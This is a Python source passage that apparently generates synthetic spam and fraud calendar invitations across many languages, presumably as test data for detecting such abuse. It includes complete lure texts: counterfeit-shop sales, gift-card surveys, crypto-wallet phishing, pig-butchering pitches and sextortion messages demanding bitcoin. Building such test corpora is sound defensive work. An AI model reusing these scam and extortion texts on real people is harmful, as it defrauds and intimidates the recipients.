"""Spam and fraud sent as calendar invitations.  All wording, brands' look-alike domains and people are invented."""
from .util import pick, rstr
from .people import harvested_list, person
from .model import Event

SHOP_TLDS = ["top", "shop", "store", "online", "xyz", "com", "site", "club", "vip", "icu", "buzz"]
COMPROMISED = ["ciencias.unialto.edu.co", "stmarks-parish.org.uk", "bergfeld-gymnasium.de", "lakeside-rotary.org",
               "hospital-sanrafael.org.ar", "villanueva-del-rio.es", "fisioterapia-moretti.it",
               "kreativ-werbung-graz.at", "dentalstudio-nowak.pl", "tradewinds-logistics.com", "greenfield-cpa.com",
               "hamilton-plumbing.ca", "escola-aurora.com.br", "fen.univ-valdeloire.fr", "ktu-alumni.lt",
               "ridgeline-freight.com", "tallowmere.net", "weinhaus-ortlieb.at", "agarwal-textiles.in",
               "jinhe-trading.com.tw", "quinta-do-ribeiral.pt"]
ALL_BUT_ZOOM = ["google", "exchange", "outlook-desktop", "icloud", "apple-mail", "thunderbird", "nextcloud", "zimbra",
                "yahoo", "sogo", "booking", "handrolled", "evolution", "emclient", "proton"]


def shop(word, tlds=SHOP_TLDS):
    def f(c, V):
        return {"url": "https://www.%s%s.%s/" % (word, pick(c.rng, ["", "-" + c.slug(4), c.slug(3), "-sale", "-outlet"]),
                                               pick(c.rng, tlds))}
    return f


def more_days(titles):
    def f(c, ev, V):
        import datetime as dt
        for i, t in enumerate(titles, 1):
            e2 = Event(start=ev.start + dt.timedelta(days=i), end=ev.end + dt.timedelta(days=i), tz=ev.tz,
                       organizer=ev.organizer, summary=t.format(**V), description=ev.description,
                       location=ev.location, url=ev.url, attendees=list(ev.attendees))
            c.m.events.append(e2)
    return f


def fake_reply(c, ev, V, partstat, comment):
    m = c.m
    ev.organizer = dict(m.rcpt)
    ev.attendees = []
    ev.add_att(m.sender, partstat=partstat, rsvp=False)
    ev.comment = comment.format(**V)
    ev.description = ev.comment
    m.method = "REPLY"


def fake_cancel(c, ev, V, note):
    m = c.m
    m.method = "CANCEL"
    ev.sequence = 1
    ev.status = "CANCELLED"
    ev.description = note.format(**V)


def alarms(n, first="-PT5M", step=10):
    out = [{"trigger": first, "desc": "Reminder"}]
    for i in range(1, n):
        out.append({"trigger": "-PT%dM" % (5 + i * step), "desc": "Reminder"})
    return out


# =====================================================================================================================
RETAIL = dict(name="retail-sale", title="Retail sale waves (counterfeit or fake shops)", clients=ALL_BUT_ZOOM, items=[
    dict(lang="en", desc="Sunglasses clearance from an iCloud organiser to a harvested attendee list", years=(2016, 2017),
         months=(10, 11, 12), accts=["free"], clients=["icloud", "apple-mail", "google", "yahoo"],
         vars=shop("raybans-outlet", ["top", "us.com", "online"]),
         summary="Ray-Ban Sunglasses 80% OFF - Only Today $19.99",
         body="Ray-Ban & Oakley Sunglasses Clearance Sale\nAll styles only $19.99 - 80% OFF, free shipping worldwide.\n"
              "Shop now: {url}\n\nLast day! Limited stock.", loc="{url}", att=("harvest", (40, 110)),
         when=dict(days=(0, 2), hour=(0, 23), dur=30, weekday_only=False)),
    dict(lang="en", desc="Black Friday jewellery discount from a fresh free-mail account", years=(2018, 2024),
         months=(11,), accts=["free"], vars=shop("pandora-blackfriday"),
         autofwd={"domains": ["alumni.northfield.edu", "pobox-forward.net", "members.lakeside-rotary.org"]}, summary="Black Friday: Pandora charms & bracelets up to 85% off",
         body="Hi,\n\nOur Black Friday event starts now. Pandora bracelets, charms and rings up to 85% off, with a free "
              "gift box on every order.\n\n{url}\n\nOffer ends Monday at midnight.", loc="Online store",
         when=dict(days=(1, 4), hour=(8, 20), dur=60, weekday_only=False)),
    dict(lang="en", desc="Tumbler clearance; the shop link sits only in LOCATION", years=(2024, 2026),
         accts=["free", "vps", "corp"], dom={"vps": "stanley-clearance-{slug}.shop", "corp": COMPROMISED},
         vars=lambda c, V: {"url": "https://stanley-quencher-%s.shop/collections/clearance" % c.slug(4)},
         summary="Stanley Quencher H2.0 - final 300 units $14.99",
         body="Warehouse clearance. Colours: Rose Quartz, Cream, Lilac, Black Chrome. Limit 2 per customer.",
         loc="{url}", when=dict(days=(0, 3), hour=(7, 22), dur=45, weekday_only=False)),
    dict(lang="en", desc="Hair-styler 'overstock' offer from a look-alike outlet domain", years=(2022, 2026),
         accts=["free", "lookalike", "vps"], dom={"lookalike": ["dysonoutlet-uk.co.uk", "dyson-clearance.store"],
                                                   "vps": "dyson-warehouse-{slug}.com"},
         sname="Dyson Outlet UK", vars=lambda c, V: {"url": "https://%s/airwrap-complete" % pick(
             c.rng, ["dysonoutlet-uk.co.uk", "dyson-clearance.store", "dyson-airwrap-%s.shop" % c.slug(4)])},
         method="PUBLISH?", summary="Dyson Airwrap Complete - 78% off today only",
         body="Dear customer,\n\nDue to an inventory overstock our warehouse is releasing a limited batch of Airwrap "
              "Complete stylers at £89 (RRP £479.99). Free next-day delivery.\n\nReserve yours: {url}",
         url="{url}", brand=dict(logo="DYSON OUTLET", title="Airwrap Complete – £89 today only",
                                 paras=["Due to an inventory overstock our warehouse is releasing a limited batch.",
                                        "Free next-day delivery. Only while stocks last."],
                                 button="Reserve now", url="{url}", color="#111111",
                                 footer="You received this because you subscribed to offers. Unsubscribe.")),
    dict(lang="en", desc="Designer handbag 'Christmas sale' to a harvested list", years=(2016, 2019), months=(11, 12),
         accts=["free"], clients=["yahoo", "google", "exchange", "icloud"], vars=shop("mkbags-sale", ["com", "us", "top"]),
         summary="Michael Kors Bags Christmas Sale 90% Off",
         body="MK handbags, wallets & watches from $29.99\nChristmas special - free shipping, 3 days delivery\n{url}",
         att=("harvest", (15, 60)), when=dict(days=(0, 6), hour=(0, 23), dur=60, weekday_only=False)),
    dict(lang="en", desc="Cookware closing-down sale; link only in the HTML description (X-ALT-DESC)",
         accts=["vps", "lookalike", "corp"], dom={"vps": "lecreuset-closing-{slug}.com",
                                                  "lookalike": "lecreuset-outletstore.co.uk", "corp": COMPROMISED},
         clients=["handrolled", "booking", "outlook-desktop", "thunderbird", "emclient", "zimbra"],
         vars=lambda c, V: {"url": "https://lecreuset-%s.%s/sale" % (pick(c.rng, ["closing", "clearance", "outlet"]),
                                                                     pick(c.rng, ["shop", "store", "co.uk"]))},
         summary="Le Creuset Closing Down - Everything Must Go",
         body="Signature cast iron casseroles from £39. Stock is limited.",
         alt='<html><body><p>Signature cast iron casseroles from <b>£39</b>.</p><p><a href="{url}">Shop the '
             'clearance</a></p></body></html>', preset=None),
    dict(lang="en", desc="Three 'sale days' published as a multi-event calendar", accts=["vps", "free"],
         clients=["handrolled", "booking", "outlook-desktop", "thunderbird"], method="PUBLISH", att="none",
         dom={"vps": "uggsale-{slug}.store"}, vars=shop("ugg-crocs-winter"),
         summary="Day 1: UGG & Crocs winter sale - buy 2 get 1 free",
         body="Classic Mini, Tasman and Crocs Echo Clogs. Buy 2 get 1 free, today only.\n{url}", url="{url}",
         fill=more_days(["Day 2: Extra 20% with code WARM20", "Day 3: Final hours - everything $29"]),
         when=dict(days=(1, 5), hour=(8, 10), dur=720, weekday_only=False)),
    dict(lang="zh", desc="Chinese sunglasses discount wave via iCloud with a huge attendee list", years=(2016, 2016),
         months=(10, 11, 12), accts=["free"], clients=["icloud", "apple-mail"],
         vars=lambda c, V: {"url": "http://www.%s.com" % rstr(c.rng, 6, "abcdefghijklmnopqrstuvwxyz")},
         summary="雷朋太阳镜 全场1折 限时抢购",
         body="雷朋 / 欧克利 正品太阳镜 清仓特卖\n全场一折起，包邮到家，货到付款\n官网：{url}\n数量有限，售完即止！",
         att=("harvest", (60, 140), ["zh", "en", "ja"]), when=dict(days=(0, 1), hour=(0, 23), dur=30,
                                                                    weekday_only=False)),
    dict(lang="zh", desc="Singles'-Day designer bag clearance sent by a script in GB2312", years=(2017, 2023),
         months=(10, 11), accts=["vps", "spoof"], clients=["handrolled", "outlook-desktop", "thunderbird", "booking"],
         dom={"vps": "tmall-shop{slug}.cn", "spoof": ["qq.com", "163.com"]}, charset="gb2312",
         vars=lambda c, V: {"url": "http://%s.vip" % rstr(c.rng, 7, "abcdefghijklmnopqrstuvwxyz0123456789")},
         quirks=["7bit-8bit", "no-method"], summary="双十一狂欢 名牌包包清仓 最低99元",
         body="LV、古驰、普拉达 大牌包包 双十一限时清仓\n全场最低99元 顺丰包邮\n点击进入：{url}\n活动时间：{date}",
         loc="{url}"),
    dict(lang="zh", desc="Year-end luxury watch sale in Traditional Chinese with a Big5 text part",
         accts=["vps", "free", "spoof"], clients=["outlook-desktop", "handrolled"],
         dom={"vps": "watch-outlet{slug}.tw", "spoof": "yahoo.com.tw"}, charset="big5", tz="Asia/Taipei",
         html="<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=big5\"></head><body>"
              "<p><b>年終大促銷</b></p><p>勞力士、歐米茄 精品手錶 年終出清<br>全館3折起，全台免運費，貨到付款</p>"
              "<p><a href=\"{url}\">立即搶購</a></p></body></html>",
         vars=lambda c, V: {"url": "https://%s.shop/tw" % rstr(c.rng, 8, "abcdefghijklmnopqrstuvwxyz")},
         summary="年終大促銷 名錶3折起 全台免運",
         body="勞力士、歐米茄 精品手錶 年終出清\n全館3折起，全台免運費，貨到付款\n立即搶購：{url}"),
    dict(lang="ja", desc="Japanese brand-bag '90% off' sale with legacy Japanese charset", accts=["free", "vps"],
         dom={"vps": "brand-sale-{slug}.jp.net"}, charset=["iso-2022-jp", "shift_jis"],
         vars=lambda c, V: {"url": "https://%s.%s/sale/" % (rstr(c.rng, 8, "abcdefghijklmnopqrstuvwxyz"),
                                                            pick(c.rng, ["top", "shop", "xyz"]))},
         summary="【期間限定】ブランドバッグ 最大90%OFF セール開催中",
         body="いつもご利用いただきありがとうございます。\n本日より年に一度の在庫一掃セールを開催いたします。\n"
              "コーチ・グッチ・プラダ 最大90%OFF、送料無料。\n▼ 特設ページ\n{url}\n※数量限定のため、お早めに。"),
    dict(lang="ko", desc="Korean '(advert)' luxury watch discount", accts=["free", "vps"],
         dom={"vps": "watch-{slug}.kr"}, charset=["euc-kr"],
         vars=lambda c, V: {"url": "https://%s.%s" % (rstr(c.rng, 7, "abcdefghijklmnopqrstuvwxyz"),
                                                      pick(c.rng, ["shop", "co", "kr"]))},
         summary="(광고) 명품 시계 최대 80% 할인 — 오늘 하루만",
         body="고객님 안녕하세요.\n롤렉스, 오메가 등 명품 시계 재고 정리 특가!\n최대 80% 할인, 무료 배송\n바로가기: {url}\n"
              "수신거부를 원하시면 회신 바랍니다."),
    dict(lang="es", desc="Spanish trainers clearance", accts=["free", "vps", "corp"],
         dom={"vps": "zapatillas-outlet-{slug}.es", "corp": COMPROMISED}, charset=["iso-8859-1", "utf-8"],
         vars=shop("nike-liquidacion", ["es", "shop", "com"]),
         summary="Liquidación total: zapatillas Nike desde 19,99 €",
         body="¡Últimas unidades! Air Max, Air Force 1 y Dunk con hasta un 80 % de descuento.\nEnvío gratis en 48 h.\n"
              "Compra aquí: {url}", url="{url}"),
    dict(lang="fr", desc="French handbag private sale", accts=["free", "vps", "lookalike"],
         dom={"vps": "longchamp-soldes-{slug}.fr", "lookalike": "longchamp-ventesprivees.fr"},
         charset=["iso-8859-15", "utf-8"], vars=shop("longchamp-soldes", ["fr", "shop", "com"]),
         summary="Soldes exceptionnelles : sacs Longchamp -75 % jusqu'à dimanche",
         body="Bonjour,\n\nVente privée réservée à nos clientes : sacs Le Pliage et Roseau à -75 %.\n"
              "Livraison offerte dès 49 €.\n\nJe découvre : {url}", url="{url}"),
])

# =====================================================================================================================
PRIZE = dict(name="prize-survey", title="Prize, survey and gift-card lures", clients=ALL_BUT_ZOOM, items=[
    dict(lang="en", desc="Gift-card survey lure with link in the description", accts=["free", "vps"],
         dom={"vps": "rewards-center-{slug}.com"},
         vars=lambda c, V: {"url": c.freehost("survey-" + c.slug(5))},
         autofwd={"domains": ["alumni.northfield.edu", "pobox-forward.net", "members.lakeside-rotary.org"]}, summary="Congratulations! You've been selected for a $500 gift card",
         body="You have been randomly selected to take part in our 30-second customer survey.\nAs a thank-you you "
              "can claim a $500 Amazon gift card.\n\nStart the survey: {url}\n\nReference: {code}",
         when=dict(days=(0, 1), hour=(0, 23), dur=15, weekday_only=False), alarms=[{"trigger": "-PT1M"}]),
    dict(lang="en", desc="Warehouse-club 'loyalty reward' with the link only in URL and LOCATION", accts=["free", "vps",
                                                                                                        "lookalike"],
         dom={"vps": "member-rewards-{slug}.net", "lookalike": "costco-memberrewards.com"},
         sname="Member Rewards", vars=lambda c, V: {"url": c.short()},
         summary="Final notice: your Costco loyalty reward is unclaimed (ID {num})",
         body="Your annual loyalty reward is still waiting. Confirm your shipping details to receive it.",
         url="{url}", loc="{url}", when=dict(days=(0, 2), hour=(7, 21), dur=30)),
    dict(lang="en", desc="Phone 'winner' asking for a small shipping fee", accts=["free", "vps", "corp"],
         dom={"corp": COMPROMISED, "vps": "winner-notice-{slug}.info"},
         vars=lambda c, V: {"url": c.freehost("claim")},
         summary="You've won an iPhone 16 Pro - confirm delivery",
         body="Dear {first},\n\nYour email address was drawn in our monthly prize draw. To receive your iPhone 16 Pro "
              "only the delivery fee of $1.95 is required.\n\nConfirm here within 24 hours: {url}",
         years=(2024, 2026)),
    dict(lang="en", desc="Supermarket anniversary voucher; payload hidden in ATTACH", accts=["vps", "lookalike"],
         clients=["handrolled", "booking", "apple-mail", "thunderbird", "sogo", "nextcloud", "evolution"],
         dom={"vps": "walmart-voucher-{slug}.com", "lookalike": "walmart-customer-survey.com"},
         vars=lambda c, V: {"url": "https://%s.pages.dev/voucher.pdf.html" % c.slug(9)},
         method="PUBLISH?", quirks=["lf-ics"], summary="Your $750 Walmart voucher is ready",
         body="Thank you for being a loyal customer. Open the attached voucher to redeem.",
         attach=[("{url}", "application/pdf", "Voucher_{num}.pdf")],
         brand=dict(logo="Walmart Rewards", title="Your $750 voucher is ready",
                    paras=["Thank you for your feedback.", "Open the attached voucher to redeem before it expires."],
                    button="Redeem now", url="{url}", color="#0071dc")),
    dict(lang="en", desc="Google Calendar invite with a Google Forms 'reward' survey", accts=["free"],
         clients=["google"], vars=lambda c, V: {"url": "https://docs.google.com/forms/d/e/1FAIpQL%s/viewform" %
                                                       c.token(44)},
         summary="Customer appreciation: claim your Dyson V15",
         body="We are giving away 50 Dyson V15 Detect to loyal customers this week.\nAnswer 3 quick questions to "
              "check eligibility:\n{url}", when=dict(days=(0, 3), hour=(8, 20), dur=15)),
    dict(lang="en", desc="Points-expiry lure with nagging alarms", accts=["free", "vps"],
         dom={"vps": "points-expire-{slug}.com"}, vars=lambda c, V: {"url": c.freehost("points")},
         summary="12,450 reward points expire today",
         body="Your reward points will expire at midnight. Redeem them now for gift cards or electronics: {url}",
         alarms=alarms(5, "-PT1M", 15), when=dict(days=(0, 0), hour=(18, 22), dur=60, weekday_only=False)),
    dict(lang="de", desc="German supermarket anniversary voucher", accts=["free", "vps"],
         dom={"vps": "lidl-jubilaeum-{slug}.de"}, charset=["iso-8859-1", "utf-8"],
         vars=lambda c, V: {"url": c.short()},
         summary="Lidl Jubiläum: Ihr Gutschein über 500 € wartet",
         body="Hallo {first},\n\nzum Jubiläum verlosen wir 1.000 Einkaufsgutscheine im Wert von 500 €.\n"
              "Beantworten Sie einfach vier Fragen: {url}\n\nDas Angebot gilt nur heute."),
    dict(lang="it", desc="Italian supermarket voucher survey", accts=["free", "vps", "corp"],
         dom={"vps": "esselunga-premi-{slug}.it", "corp": COMPROMISED}, charset=["iso-8859-1", "utf-8"],
         vars=lambda c, V: {"url": c.freehost("premio")},
         summary="Esselunga: hai vinto un buono spesa da 1000 €",
         body="Gentile cliente,\nsei stato selezionato per il nostro sondaggio annuale. Completa il questionario "
              "e ricevi un buono spesa da 1000 €.\n\nPartecipa ora: {url}"),
    dict(lang="pt", desc="Portuguese retailer gift-card survey", accts=["free", "vps"],
         dom={"vps": "continente-oferta-{slug}.pt"}, charset=["iso-8859-1", "utf-8"],
         vars=lambda c, V: {"url": c.freehost("oferta")},
         summary="Continente: Cartão Oferta de 500 € à sua espera",
         body="Olá {first},\nFoi selecionado(a) para o nosso inquérito de satisfação. Responda a 3 perguntas e receba "
              "um Cartão Oferta de 500 €.\n{url}", loc="{url}"),
    dict(lang="pl", desc="Polish discount-store voucher survey", accts=["free", "vps"],
         dom={"vps": "biedronka-nagroda-{slug}.pl"}, charset=["iso-8859-2", "utf-8"],
         vars=lambda c, V: {"url": c.short()},
         summary="Biedronka: bon 1000 zł za wypełnienie ankiety",
         body="Dzień dobry,\nz okazji urodzin sieci rozdajemy bony o wartości 1000 zł. Wypełnij krótką ankietę:\n{url}\n"
              "Liczba bonów ograniczona."),
    dict(lang="th", desc="Thai lucky-draw notification", accts=["free", "vps"], dom={"vps": "lucky-th-{slug}.com"},
         charset=["tis-620", "utf-8"], vars=lambda c, V: {"url": c.freehost("th")},
         summary="ยินดีด้วย! คุณได้รับบัตรกำนัลมูลค่า 5,000 บาท",
         body="เรียนลูกค้า\nคุณคือผู้โชคดีประจำเดือนนี้ กรุณายืนยันข้อมูลเพื่อรับบัตรกำนัลมูลค่า 5,000 บาท\n{url}\n"
              "สิทธิ์นี้หมดอายุภายใน 24 ชั่วโมง"),
    dict(lang="hi", desc="Hindi e-commerce 'lucky winner' lure", accts=["free", "vps"],
         dom={"vps": "flipkart-lucky-{slug}.in"}, vars=lambda c, V: {"url": c.freehost("lucky")},
         summary="बधाई हो! आपने Flipkart लकी ड्रॉ में ₹50,000 जीते",
         body="प्रिय ग्राहक,\nआपका ईमेल हमारे मासिक लकी ड्रॉ में चुना गया है। इनाम पाने के लिए ₹99 का "
              "प्रोसेसिंग शुल्क जमा करें।\n{url}"),
])

# =====================================================================================================================
CRYPTO = dict(name="crypto-investment", title="Crypto and investment fraud", clients=ALL_BUT_ZOOM + ["zoom"], items=[
    dict(lang="en", desc="'Double your bitcoin' giveaway with a wallet address", years=(2020, 2023),
         accts=["free", "vps"], dom={"vps": "tesla-giveaway-{slug}.com"},
         summary="LIVE: 5,000 BTC giveaway - send 0.1, receive 0.2 back",
         body="To celebrate our new partnership we are giving back to the community.\nSend between 0.1 and 20 BTC to "
              "the address below and receive double instantly:\n\n{btc}\n\nEvent ends when the pool is empty.",
         loc="Livestream", when=dict(days=(0, 1), hour=(14, 20), dur=120, weekday_only=False)),
    dict(lang="en", desc="Fake exchange balance awaiting 'withdrawal'", accts=["free", "lookalike", "vps"],
         dom={"lookalike": ["coinbase-withdrawals.com", "secure-coinbasepro.net"], "vps": "cb-wallet-{slug}.com"},
         sname="Wallet Support", vars=lambda c, V: {"url": "https://%s/withdraw?acc=%s" % (
             pick(c.rng, ["coinbase-withdrawals.com", "secure-coinbasepro.net", "%s.web.app" % c.slug(8)]),
             c.digits(9))},
         summary="Pending withdrawal: 0.7821 BTC - action required",
         body="Your account has a pending withdrawal of 0.7821 BTC (approx. $48,310).\nComplete verification within "
              "24 hours to release the funds: {url}", url="{url}"),
    dict(lang="en", desc="Trading-bot 'masterclass' webinar registration via a real meeting service",
         accts=["corp", "service"], clients=["zoom", "booking", "handrolled"],
         dom={"service": "quantumtrade-academy.com", "corp": "quantumtrade-academy.com"}, method="PUBLISH",
         sname="Quantum Trade Academy", years=(2019, 2026),
         summary="Free Masterclass: How our AI bot makes 4.2% per day",
         body="Join our senior analyst live and see the AI trading bot in action.\nMinimum deposit to get started: "
              "$250. Spaces are limited.\nWhatsApp support: +44 7700 900{num3}",
         vars=lambda c, V: {"num3": "%03d" % c.rng.randint(0, 999)}, att_publish=False,
         when=dict(days=(1, 6), hour=(17, 20), dur=90, weekday_only=False)),
    dict(lang="en", desc="Token presale 'whitelist' with Telegram/Discord links", accts=["free", "vps"],
         dom={"vps": "novachain-presale.io"}, vars=lambda c, V: {"url": "https://t.me/%s_presale" % c.slug(6)},
         summary="$NOVA presale whitelist closes tonight",
         body="You are on the early list for the $NOVA presale (1 NOVA = $0.004, listing at $0.09).\n"
              "Confirm your allocation in our Telegram: {url}\nDiscord: https://discord.gg/{slug}",
         loc="{url}"),
    dict(lang="en", desc="'Pig-butchering' style friendly intro moving to WhatsApp", accts=["free"],
         sname="Jessica Lin", summary="Gold trading plan - as promised",
         body="Hi, nice to meet you here. As I said, my uncle is an analyst at a Hong Kong fund and he shares a gold "
              "futures plan every week. I made 31% last month. If you want I can show you how, it's easy.\n"
              "Add me on WhatsApp +852 5555 {n4}, we can talk more comfortably there.",
         vars=lambda c, V: {"n4": rstr(c.rng, 4, "0123456789")}, when=dict(days=(0, 2), hour=(19, 23), dur=30,
                                                                             weekday_only=False)),
    dict(lang="en", desc="Crypto 'fund recovery' agency", accts=["free", "vps", "lookalike"],
         dom={"vps": "chainrecover-experts.com", "lookalike": "cipher-recovery-agency.com"},
         sname="Asset Recovery Desk", vars=lambda c, V: {"url": "https://%s/case/%s" % (
             pick(c.rng, ["chainrecover-experts.com", "cipher-recovery-agency.com"]), c.digits(6))},
         summary="Case review: recovery of your lost crypto funds", online="zoom",
         body="Our certified blockchain investigators have traced wallets linked to your losses.\nBook your free "
              "case review: {url}\nRecovery fee only after success.", url="{url}"),
    dict(lang="ru", desc="Russian energy-company 'investment' income promise", accts=["free", "vps"],
         dom={"vps": "gazinvest-{slug}.ru"}, charset=["koi8-r", "windows-1251", "utf-8"],
         vars=lambda c, V: {"url": c.freehost("invest")},
         summary="Инвестиции от 15 000 ₽: доход от 70 000 ₽ в месяц",
         body="Здравствуйте!\nНовая платформа для граждан РФ: вложите от 15 000 ₽ и получайте от 70 000 ₽ ежемесячно.\n"
              "Личный менеджер проведёт консультацию бесплатно.\nРегистрация: {url}"),
    dict(lang="tr", desc="Turkish bitcoin 'free training seminar'", accts=["free", "vps"],
         dom={"vps": "kripto-egitim-{slug}.com"}, charset=["iso-8859-9", "utf-8"],
         vars=lambda c, V: {"url": c.short()},
         summary="Bitcoin ile günlük 5.000 TL kazanç - ücretsiz eğitim semineri",
         body="Merhaba {first},\nUzman ekibimizle sıfırdan kripto yatırımını öğrenin. İlk yatırım sadece 2.500 TL.\n"
              "Kayıt: {url}\nWhatsApp: +90 5{n9}", vars2=lambda c, V, ev: {"n9": rstr(c.rng, 9, "0123456789")}),
    dict(lang="ar", desc="Arabic guaranteed gold-trading profits", accts=["free", "vps"],
         dom={"vps": "gold-invest-{slug}.com"}, charset=["windows-1256", "utf-8"],
         vars=lambda c, V: {"url": c.freehost("gold")},
         summary="فرصة استثمارية: أرباح يومية مضمونة من تداول الذهب",
         body="مرحباً،\nانضم إلى منصتنا واستثمر في الذهب بأرباح يومية تصل إلى 8٪.\nالحد الأدنى للإيداع 250 دولار.\n"
              "سجّل الآن: {url}"),
    dict(lang="ko", desc="Korean crypto 'reading room' VIP invite", accts=["free", "vps"], dom={"vps": "vip-coin-{slug}.kr"},
         charset=["euc-kr", "utf-8"], vars=lambda c, V: {"url": "https://open.kakao.com/o/%s" % c.token(8)},
         summary="코인 리딩방 VIP 초대 — 수익률 300% 보장",
         body="안녕하세요. 전문가가 매일 급등 코인을 알려드립니다.\n이번 달 평균 수익률 300%.\n오픈채팅 입장: {url}",
         loc="{url}"),
    dict(lang="es", desc="Spanish trading-robot investment pitch", accts=["free", "vps", "corp"],
         dom={"vps": "robot-inversion-{slug}.com", "corp": COMPROMISED}, vars=lambda c, V: {"url": c.freehost("inv")},
         summary="Invierte 250 € y gana 1.200 € a la semana",
         body="Hola {first},\nNuestro robot de trading con inteligencia artificial opera por ti las 24 horas.\n"
              "Plazas limitadas para residentes en España: {url}"),
    dict(lang="nl", desc="Dutch crypto-exchange 'new regulation' wallet verification", accts=["lookalike", "vps"],
         dom={"lookalike": "bitvavo-verificatie.nl", "vps": "bv-wallet-{slug}.com"}, sname="Bitvavo Compliance",
         vars=lambda c, V: {"url": "https://bitvavo-verificatie.nl/mica/%s" % c.token(10)},
         method="PUBLISH?", clients=["booking", "handrolled", "outlook-desktop", "thunderbird", "nextcloud"], summary="Verplichte walletverificatie vóór {date} (MiCA)",
         body="Beste klant,\nDoor nieuwe Europese regelgeving (MiCA) moeten alle wallets opnieuw worden geverifieerd. "
              "Zonder verificatie worden opnames tijdelijk geblokkeerd.\nVerifieer hier: {url}",
         brand=dict(logo="Bitvavo", title="Walletverificatie vereist", paras=[
             "Door nieuwe Europese regelgeving (MiCA) moeten alle wallets opnieuw worden geverifieerd.",
             "Zonder verificatie worden opnames tijdelijk geblokkeerd."], button="Nu verifiëren", url="{url}",
                    color="#0051ff")),
])

# =====================================================================================================================
DATING = dict(name="dating-sextortion", title="Dating lures and sextortion", clients=ALL_BUT_ZOOM, items=[
    dict(lang="en", desc="Flirty 'free tonight' invite pointing to a dating site", accts=["free"], sname="Alina",
         vars=lambda c, V: {"url": "https://%s.%s/?u=%s" % (pick(c.rng, ["lovelyfinder", "meet-hotties", "flirtnow",
                                                                        "datelocal-singles"]),
                                                            pick(c.rng, ["com", "club", "xyz", "online"]),
                                                            c.slug(6))},
         summary="I'm free tonight 😘", body="Hey you, I saw your profile and I think you're cute. I'm new in town and "
                                            "free tonight. My photos are here: {url}\nWrite me there, I don't check "
                                            "this email often. Kisses, Alina",
         when=dict(days=(0, 1), hour=(19, 23), dur=120, weekday_only=False)),
    dict(lang="en", desc="'Private video call' dating lure with link only in LOCATION", accts=["free", "vps"],
         dom={"vps": "private-cams-{slug}.com"}, sname="Kristina", vars=lambda c, V: {"url": c.short()},
         summary="Private video call?", body="Only you and me. Don't be shy 🙈", loc="{url}",
         when=dict(days=(0, 1), hour=(20, 23), dur=60, weekday_only=False)),
    dict(lang="en", desc="'Woman nearby wants to meet' notification from a fake dating service",
         accts=["vps", "lookalike"], dom={"vps": "singles-nearby-{slug}.com", "lookalike": "matchmeet-notify.com"},
         sname="MatchMeet", vars=lambda c, V: {"url": "https://matchmeet-%s.com/p/%s" % (c.slug(3), c.digits(7))},
         method="PUBLISH?", clients=["booking", "handrolled", "outlook-desktop", "thunderbird", "nextcloud"], summary="Anna (24) wants to meet you - 3 km away", url="{url}",
         body="Anna sent you a date request for {date}. Accept or decline before it expires: {url}",
         brand=dict(logo="MatchMeet", title="Anna (24) wants to meet you", paras=[
             "Anna sent you a date request. She is 3 km away.", "Accept before the request expires."],
                    button="See her photos", url="{url}", color="#e0245e")),
    dict(lang="en", desc="Sextortion invite 'from' the recipient's own address with a bitcoin demand",
         accts=["spoof"], clients=["outlook-desktop", "handrolled", "thunderbird", "emclient"], dom={"spoof": "{rdom}"},
         local={"spoof": "{rlocal}"}, sname="", spoof_self=True,
         summary="Payment deadline - read carefully",
         body="Hello,\n\nI have access to your device for several months now. I installed a program that recorded you "
              "through your camera while you visited adult websites. I have the video and your contact list.\n\n"
              "Send $1450 in Bitcoin to this address: {btc}\n\nYou have 48 hours (see the event time). If I receive "
              "the payment the video is deleted. Otherwise everyone in your contacts gets it.\n\nI can see when you "
              "open this invitation.", when=dict(days=(2, 2), hour=(0, 23), dur=15, weekday_only=False),
         alarms=alarms(3, "-PT60M", 300)),
    dict(lang="en", desc="Sextortion follow-up with bitcoin address only in the calendar", accts=["free", "vps"],
         dom={"vps": "secure-msg-{slug}.net"}, summary="Final reminder",
         body="Last chance. You know what this is about. Wallet: {btc}. After this the video goes public.",
         when=dict(days=(1, 1), hour=(8, 20), dur=10, weekday_only=False),
         alarms=alarms(6, "-PT10M", 30)),
    dict(lang="en", desc="'Mature singles' weekend event lure", accts=["free", "vps", "corp"],
         dom={"vps": "mature-dating-{slug}.com", "corp": COMPROMISED},
         vars=lambda c, V: {"url": c.freehost("singles")},
         list=lambda c, V: {"kind": "mailman3", "name": "members", "domain": "lists.harbourside-runners.org", "title": "Harbourside Runners", "munge": True, "footer": True, "prefix": True}, to=lambda c, V: [{"name": "", "addr": "members@lists.harbourside-runners.org"}], summary="Singles over 40 near you this weekend",
         body="Discreet local dating for grown-ups. 2,300 new members in your area this week.\nSee who's online: {url}",
         when=dict(days=(2, 5), hour=(18, 21), dur=180, weekday_only=False)),
    dict(lang="ru", desc="Russian 'let's get acquainted' dating lure", accts=["free"], sname="Катя",
         charset=["koi8-r", "windows-1251", "utf-8"], vars=lambda c, V: {"url": c.short()},
         summary="Привет, я Катя 😊 Хочешь познакомиться?",
         body="Привет! Я увидела твою анкету и решила написать первой. Мне 26, живу недалеко от тебя.\n"
              "Мои фото здесь: {url}\nПиши мне там, жду ❤"),
    dict(lang="fr", desc="French 'see you tonight?' dating lure", accts=["free", "vps"], sname="Julie",
         dom={"vps": "rencontres-{slug}.fr"}, charset=["iso-8859-1", "utf-8"], vars=lambda c, V: {"url": c.short()},
         summary="Salut, c'est Julie 😊 on se voit ce soir ?",
         body="Coucou,\nJe suis libre ce soir et je cherche quelqu'un de sympa. Mon profil et mes photos : {url}\n"
              "Réponds-moi là-bas, bisous"),
    dict(lang="el", desc="Greek sextortion with bitcoin demand", accts=["spoof", "free"], dom={"spoof": "{rdom}"},
         local={"spoof": "{rlocal}"}, sname="", charset=["iso-8859-7", "utf-8"],
         summary="Προθεσμία πληρωμής - διαβάστε προσεκτικά",
         body="Γεια σας,\nΈχω πρόσβαση στη συσκευή σας εδώ και μήνες και έχω καταγράψει βίντεο από την κάμερά σας.\n"
              "Στείλτε 1.200 € σε Bitcoin στη διεύθυνση: {btc}\nΈχετε 48 ώρες. Αλλιώς το βίντεο θα σταλεί σε όλες τις "
              "επαφές σας.", when=dict(days=(2, 2), hour=(0, 23), dur=15, weekday_only=False)),
    dict(lang="ja", desc="Japanese sextortion demanding bitcoin", accts=["free", "spoof", "vps"],
         dom={"spoof": "{rdom}", "vps": "secure-jp-{slug}.com"}, local={"spoof": "{rlocal}"}, sname="",
         charset=["iso-2022-jp", "utf-8"],
         summary="【至急】あなたの秘密の動画を持っています",
         body="こんにちは。\nあなたのデバイスにアクセスし、カメラの映像を録画しました。\n48時間以内に15万円相当の"
